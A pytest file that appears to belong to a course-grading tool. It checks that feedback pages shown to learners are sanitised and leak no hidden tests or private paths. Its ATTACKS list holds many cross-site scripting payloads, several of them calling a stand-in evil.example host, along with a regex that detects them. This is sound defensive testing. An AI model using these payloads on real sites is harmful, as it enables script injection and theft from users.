"""The page that a learner gets back: all that it should say, nothing that it should not, and nothing that acts."""

from __future__ import annotations

import base64
import datetime
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Optional

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell

pytest.importorskip("nbgrader", reason="Grading is nbgrader's (make test installs it).")

from biollm_widgets.errors import InputError
from biollm_widgets.grading.feedback import feedback
from biollm_widgets.grading.safe_html import TAGS, safe_html, safe_picture, safe_style
from tests.grading.samples import HIDDEN, LESSON, SCHEME, SOLUTION, Samples, error, shown, stream

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect class="a" width="5" height="5"/></svg>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@pytest.fixture
def samples(tmp_path: Path) -> Samples:
    return Samples(tmp_path / "course")


def page(samples: Samples, learner: str) -> str:
    (one,) = feedback(samples.course, LESSON, [learner])
    assert one.path is not None, one.words
    return one.path.read_text(encoding="utf-8")


def words(text: str) -> str:
    """What a reader reads."""
    text = re.sub(r"<style>.*?</style>", "", text, flags=re.S)
    text = re.sub(r"</?span[^>]*>", "", text)  # of coloured code
    text = re.sub(r"<[^>]+>", " ", text).replace("&#x27;", "'").replace("&quot;", '"').replace("&amp;", "&")
    return " ".join(text.split())


# What no drawing may have.
BAD = re.compile(r"<script|\son\w+=|javascript:|foreignObject|https?://(?!www\.w3\.org/2000)|@import|url\((?!#)", re.I)


class Elements(HTMLParser):
    """Every element of a page, as a browser is given it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, Optional[str]]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, Optional[str]]]) -> None:
        self.found.append((tag, dict(attrs)))


def harmless(text: str) -> None:
    """Raise AssertionError unless a page holds only what ours hold."""
    head, _, body = text.partition("<body>")
    assert "default-src 'none'" in head and head.count("<meta") <= 6 and head.count("<style>") == 1
    for tag, attributes in Elements(body).found:
        assert tag in TAGS | {"header", "footer", "section"}, tag
        for name, value in attributes.items():
            value = value or ""
            assert name in {
                "class", "id", "style", "href", "src", "alt", "title", "colspan", "rowspan", "width", "height", "open",
                "border", "start", "align", "span",
            }, (tag, name)  # fmt: skip
            if name == "href":
                assert re.fullmatch(r"#[\w-]+", value), value
            if name == "src":
                assert tag == "img" and re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,", value)
                if "svg" in value[:20]:
                    drawing = base64.b64decode(value.partition(",")[2]).decode()
                    assert not BAD.search(drawing)
            if name == "style":
                assert not re.search(r"url\s*\(|expression|javascript|position|@|\\", value, re.I), value


ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script></script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/a.png>",
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><image href="https://evil.example/x"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/x.css';</style><rect fill=\"url(https://evil.example/f)\"/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="java&#115;cript:alert(1)">x</a><a href=" javascript:alert(1)">y</a>',
    '<p style="background:url(https://evil.example/x)">a</p>',
    '<p style="background:&#117;rl(https://evil.example/x)">a</p>',
    '<p style="background:u\\72l(https://evil.example/x)">a</p>',
    '<div style="position:fixed;inset:0;z-index:9">cover</div><div style="margin-top:-900px">cover</div>',
    '<form action="https://evil.example"><input name=a><button formaction=javascript:alert(1)>go</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css"><object data=x></object><embed src=x>',
    "</div></div></body></html><script>alert(1)</script>",
    "</pre></style></title></textarea><script>alert(1)</script>",
    '<p title="&quot; onmouseover=&quot;alert(1)">x</p><p id="tasks" class="card full">5 of 5</p>',
    "<details open ontoggle=alert(1)>x</details><body onload=alert(1)><marquee onstart=alert(1)>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml <script>alert(1)</script>?>",
    "[x](javascript:alert(1)) ![y](https://evil.example/y.png) <javascript:alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template><video><source onerror=alert(1)></video>",
    "<img src='data:image/svg+xml;base64," + base64.b64encode(b"<svg onload='alert(1)'><script>alert(1)</script></svg>").decode() + "'>",  # noqa: E501
]  # fmt: skip


def attacked(samples: Samples) -> str:
    """One learner who tries everything everywhere."""
    learner = "<img src=x onerror=alert(1)>"
    every = "\n".join(ATTACKS)
    outputs: list[Any] = [stream(every), stream(every, "stderr"), error(every[:900], every, [every])]
    outputs += [shown(text_html=one) for one in ATTACKS]
    outputs += [shown(**{"image_svg+xml": one}) for one in ATTACKS] + [shown(text_markdown=one) for one in ATTACKS]
    outputs += [shown(image_png=f'"><script>alert(1)</script>{PNG}', text_plain='"onerror=alert(1)')]
    extra = [new_markdown_cell(one) for one in ATTACKS] + [new_code_cell(every, outputs=outputs)]
    for cell in extra[:3]:
        cell.attachments = {"a.png": {"image/png": '" onerror="alert(1)'}}
    samples.hand_in(
        learner, answers={"report": every, "clean": every}, extra=extra, repairs=ATTACKS, notes=ATTACKS,
        mistakes=ATTACKS[:3], scores=(0, 0, 0),
    )  # fmt: skip
    samples.mark(learner, 1, every)
    return page(samples, learner)


@pytest.mark.slow
def test_nothing_of_all_that_a_learner_can_write_acts(samples: Samples) -> None:
    text = attacked(samples)
    harmless(text)
    assert text.count("<script") == 0 and "5 of 5" in text
    assert text.count('id="tasks"') == 1


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_comes_out_balanced_and_harmless(attack: str) -> None:
    made = safe_html(f"before {attack} after")
    harmless(f"default-src 'none'<style><body>{made}")
    opened = re.findall(r"<(\w+)", made)
    closed = re.findall(r"</(\w+)", made)
    assert sorted(closed) == sorted(tag for tag in opened if tag not in {"br", "hr", "img", "col"})
    assert safe_html(made) == made  # once more changes nothing: there was nothing left to read otherwise


def test_what_a_picture_a_table_and_a_twin_need_stays(samples: Samples) -> None:
    drawing = base64.b64encode(SVG.encode()).decode()
    twin = (
        '<div style="border:1px solid rgba(128,128,128,0.4);color:light-dark(#212121,#E2E2E2)">'
        f'<img src="data:image/svg+xml;base64,{drawing}" alt="six tokens" width="10" style="display:block">'
        '<details><summary>Table</summary><table style="border:0"><tr><td>ACGT</td></tr></table></details>'
        "</div>"
    )
    frame = '<table border="1" class="dataframe"><thead><tr><th>Target</th></tr></thead></table>'
    about = [shown(text_html=twin), shown(text_html=frame), shown(image_png=PNG), shown(**{"image_svg+xml": SVG})]
    attached = new_markdown_cell("![mine](attachment:a.png)")
    attached.attachments = {"a.png": {"image/png": PNG}}
    samples.hand_in("ada", outputs={"setup": about}, extra=[attached])
    text = page(samples, "ada")
    harmless(text)
    assert "light-dark(#212121,#E2E2E2)" in text and 'alt="six tokens"' in text and 'class="dataframe"' in text
    assert text.count("data:image/svg+xml") == 2 and text.count(f"base64,{PNG}") == 2
    assert '<rect class="a" width="5" height="5">' in base64.b64decode(
        re.findall(r"data:image/svg\+xml;base64,([\w+/=]+)", text)[0]
    ).decode()  # fmt: skip


def test_a_widgets_own_twin_comes_through_whole(samples: Samples) -> None:
    import biollm_widgets as bio

    made = bio.TokenView("ACGTAGCATCGGATC", bio.KmerTokenizer(6))._make_twin()
    safe = safe_html(made)
    assert re.sub(r"\s", "", words(safe)) == re.sub(r"\s", "", words(made))
    ours, theirs = (base64.b64decode(re.search(r"svg\+xml;base64,([^\"]+)", one)[1]).decode() for one in (safe, made))  # type: ignore[index]
    assert "prefers-color-scheme:dark" in ours and ours.count("<text") == theirs.count("<text")
    kept = [len(re.findall(r'style="([^"]*)"', one)) for one in (safe, made)]
    assert kept[0] == kept[1] > 4


def test_it_says_points_state_tasks_and_what_each_check_saw(samples: Samples) -> None:
    samples.hand_in(
        "ada", (1.0, 1.0, 0.0), mistakes=("space", "", "padding"),
        repairs=["The cell of pool-check was missing; it was put back."], notes=["Cell 7 was stopped after 180 s."],
    )  # fmt: skip
    text = page(samples, "ada")
    said = words(text)
    for sentence in (
        "DNA in small", "2 of 10 points so far", "Graded, with 1 repair", "pool-check was missing; it was put back.",
        "Cell 7 was stopped after 180 s.", "1 task waits for a person, 4 points in all",
        "1 of 4 tasks with all points, 1 with some, 1 waiting for a person", "Task 1.1 · clean", "1 of 2",
        "The belief behind space.", "RNA's U stands where DNA has T.", "unit 1, “Letters”", "12 inputs, all right.",
        "Question 2.2 · report", "waits, of 4",
    ):  # fmt: skip
        assert sentence in said, sentence
    anchors = set(re.findall(r'id="(task-\d+)"', text))
    assert anchors == {"task-1", "task-2", "task-3", "task-4"} == set(re.findall(r'href="#(task-\d+)"', text))
    assert said.index("def pool") < said.index("The belief behind padding.", said.index("def pool"))


def test_marks_and_comments_of_a_person_stand_where_the_checks_words_stand(samples: Samples) -> None:
    samples.hand_in("ada")
    samples.mark("ada", 3.0, "Good.\nAn <i>interval</i> is missing.", extra=0.5)
    samples.mark("ada", 1.0, task="pool-check")
    said = words(page(samples, "ada"))
    assert "7.5 of 10 points" in said and "3.5 of 4" in said and "so far" not in said
    assert "Good. An &lt;i&gt;interval&lt;/i&gt; is missing." in said
    assert "A person has set them, in place of the check's." in said and "1 of 3 points" in said


def test_lateness_is_said_and_its_penalty_taken_off(samples: Samples) -> None:
    samples.hand_in("ada", late=datetime.timedelta(days=2.5), penalty=1.5)
    said = words(page(samples, "ada"))
    assert "4.5 of 10 points" in said and "2.5 days after the due date" in said
    assert "1.5 of 6 points are taken off because it was handed in late" in said


def test_what_cannot_be_graded_is_open_and_says_what_is_asked_for(samples: Samples) -> None:
    samples.hand_in("ada", why="Its JSON ends in the middle of a cell.", ask="Save it again and hand it in once more.")
    said = words(page(samples, "ada"))
    assert "Its JSON ends in the middle of a cell." in said and "Save it again" in said
    assert "not as zero" in said and "0 of" not in said and "def clean" not in said


def test_hidden_tests_solutions_and_the_mark_scheme_do_not_show(samples: Samples) -> None:
    probe = f"line 1\n### BEGIN HIDDEN TESTS\n{HIDDEN}\n### END HIDDEN TESTS"
    trace = f"AssertionError Traceback\n----> 3 \x1b[0;32m{HIDDEN}\x1b[0m\n"
    outputs = {
        "probe": [error("AssertionError", HIDDEN, [trace]), stream(f"x {HIDDEN} y")],
        "clean-check": [stream(HIDDEN), stream("what the check's own cell printed")],
    }
    told = new_code_cell(probe, outputs=[shown(text_html=f"<b>{HIDDEN}</b>"), shown(text_markdown=HIDDEN)])
    samples.hand_in("ada", (0, 0, 0), outputs=outputs, extra=[told, new_markdown_cell(f"<!-- -->{HIDDEN}")])
    # nbgrader puts hidden tests back into the notebook that it grades.
    path = samples.course.autograded(LESSON, "ada") / f"{LESSON}.ipynb"
    text = path.read_text()
    path.write_text(text.replace("print(clean('ACGU'))", "print(clean('ACGU'))\\n" + HIDDEN.replace('"', '\\"')))
    made = page(samples, "ada")
    for secret in (
        "own cell printed",
        "secret-probe-917",
        "hidden-value-4431",
        "HIDDEN",
        "seventeen-llamas",
        "The whole truth",
        SCHEME,
    ):
        assert secret not in made, secret
    assert SOLUTION not in words(made) and "print(clean('ACGU'))" in words(made)


def test_an_answer_is_shown_whatever_the_learner_calls_it(samples: Samples) -> None:
    own = "def clean(text):\n    ### BEGIN SOLUTION\n    return 'my own way'\n    ### END SOLUTION"
    samples.hand_in("ada", answers={"clean": own})
    assert "return 'my own way'" in words(page(samples, "ada"))


def test_no_place_on_the_instructors_computer_and_no_other_learner_shows(samples: Samples) -> None:
    samples.enrol("grace_h7", "Grace", "Hopper")
    folder = samples.course.folder
    places = [
        f"{folder}/submitted/grace_h7/small/small.ipynb", f"{Path.home()}/private/x.py", "/home/prof.x/y.py",
        "autograded/grace_h7/small", "/tmp/bio-k2x/k/connection.json",
    ]  # fmt: skip
    said = "\n".join(places) + "\nHello Grace Hopper and grace_h7\n/data/learner.csv"
    outputs = [stream(said), error("OSError", said, [said]), shown(text_html=f"<p>{said}</p>"), shown(text_plain=said)]
    samples.hand_in("ada", outputs={"setup": outputs}, notes=[said], repairs=[said], scores=(0, 0, 0))
    made = page(samples, "ada")
    for secret in (str(folder), "grace_h7", "Grace", "Hopper", "prof.x", "bio-k2x", f"{Path.home()}/private"):
        assert secret not in made, secret
    assert "/data/learner.csv" in made


@pytest.mark.slow
def test_a_huge_notebook_is_cut_with_a_sentence_and_the_page_stays_small(samples: Samples) -> None:
    long = [
        stream("x" * 3_000_000),
        stream("y" * 100_000),
        shown(text_html="<b>" * 900_000),
        shown(image_png=PNG * 40_000),
    ]
    extra = [new_code_cell("z = 1 # <" * 9_000, outputs=long), new_markdown_cell("> " * 5_000 + "[" * 3_000)]
    extra += [new_markdown_cell("<b>&" * 11_000) for _ in range(60)] + [new_code_cell("1") for _ in range(2_000)]
    samples.hand_in("ada", extra=extra)
    begin = time.perf_counter()
    text = page(samples, "ada")
    assert time.perf_counter() - begin < 30
    assert len(text.encode()) < 3_000_000
    said = words(text)
    assert "characters were left out of this page" in said and "A picture of" in said and "too large with it" in said
    assert "further cells are not shown here" in said
    assert text.count('class="card') == 4  # whatever is cut, the tasks stay


def test_a_task_whose_cell_is_gone_keeps_its_card(samples: Samples) -> None:
    samples.hand_in("ada")
    path = samples.course.autograded(LESSON, "ada") / f"{LESSON}.ipynb"
    path.write_text("no notebook")
    assert page(samples, "ada").count('class="card') == 4


def test_only_what_changes_is_written_again(samples: Samples) -> None:
    samples.hand_in("ada")
    samples.enrol("dora")
    (samples.folder / "submitted" / "eve" / LESSON).mkdir(parents=True)
    stamp = samples.course.autograded(LESSON, "ada") / "timestamp.txt"
    stamp.write_text("2026-03-01 11:00:00 UTC")
    first = {one.learner: one for one in feedback(samples.course, LESSON)}
    assert (
        first["ada"].words == "written" and first["ada"].path == samples.course.feedback(LESSON, "ada") / "small.html"
    )
    assert (first["ada"].path.parent / "timestamp.txt").read_text() == stamp.read_text()  # type: ignore[union-attr]
    assert first["dora"].words == "dora has handed in nothing." and "is not graded yet" in first["eve"].words
    again = {one.learner: one.words for one in feedback(samples.course, LESSON)}
    assert again["ada"] == "unchanged"
    samples.mark("ada", 2.0)
    assert [one.words for one in feedback(samples.course, LESSON, ["ada"])] == ["written"]
    assert [one.words for one in feedback(samples.course, LESSON, ["ada"], force=True)] == ["written"]


def test_the_gradebook_is_only_read(samples: Samples) -> None:
    samples.hand_in("ada")
    path = samples.folder / "gradebook.db"
    before = path.read_bytes()
    path.chmod(0o444)
    list(feedback(samples.course, LESSON))
    assert path.read_bytes() == before


def test_a_persons_errors_are_sentences_with_a_remedy(samples: Samples, tmp_path: Path) -> None:
    samples.hand_in("ada")
    with pytest.raises(InputError, match="has no learner 'nobody'"):
        list(feedback(samples.course, LESSON, ["nobody"]))
    with pytest.raises(InputError, match=r"There is no .*other"):
        list(feedback(samples.course, "other"))
    (samples.folder / "gradebook.db").rename(tmp_path / "kept.db")
    with pytest.raises(InputError, match="run `biollm grade`"):
        list(feedback(samples.course, LESSON))
    (samples.folder / "gradebook.db").write_bytes(b"no database at all, but long enough to be looked at" * 40)
    with pytest.raises(InputError, match="cannot be read"):
        list(feedback(samples.course, LESSON))


def test_styles_and_pictures_are_taken_by_what_they_do() -> None:
    assert safe_style("color: red; WIDTH: 3px; margin: 0 auto") == "color:red;width:3px;margin:0 auto"
    assert safe_style("margin-left:-3px;position:fixed;background:url(x);color:expression(1);--x:1;content:'x'") == ""
    assert safe_picture(f"data:image/png;base64,{PNG}") and not safe_picture(f"data:image/bmp;base64,{PNG}")
    assert not safe_picture("https://evil.example/x.png") and not safe_picture("data:image/svg+xml,<svg/>")


def test_the_command_says_what_it_wrote(samples: Samples, capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    from biollm_widgets.commands.feedback import command

    samples.hand_in("ada")
    samples.enrol("dora")
    command.main([LESSON, "--course", str(samples.folder)], standalone_mode=False)
    said = capsys.readouterr().out
    assert "dora has handed in nothing." in said and "1 page written" in said and "LEARNER/small/small.html" in said


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_browser_runs_nothing_and_asks_for_nothing(scheme: str, samples: Samples) -> None:
    playwright = pytest.importorskip("playwright.sync_api")
    from tests.browser.servers import chromium

    path = samples.folder / "page.html"
    path.write_text(attacked(samples), encoding="utf-8")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=chromium(), args=["--no-sandbox"])
        tab = browser.new_page(color_scheme=scheme)
        asked, said = [], []
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("dialog", lambda dialog: said.append(dialog.message))
        tab.goto(path.as_uri())
        tab.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        tab.wait_for_timeout(500)
        assert said == [] and [url for url in asked if not url.startswith(("file:", "data:"))] == []
        assert tab.locator("section.card").count() == 4
        browser.close()
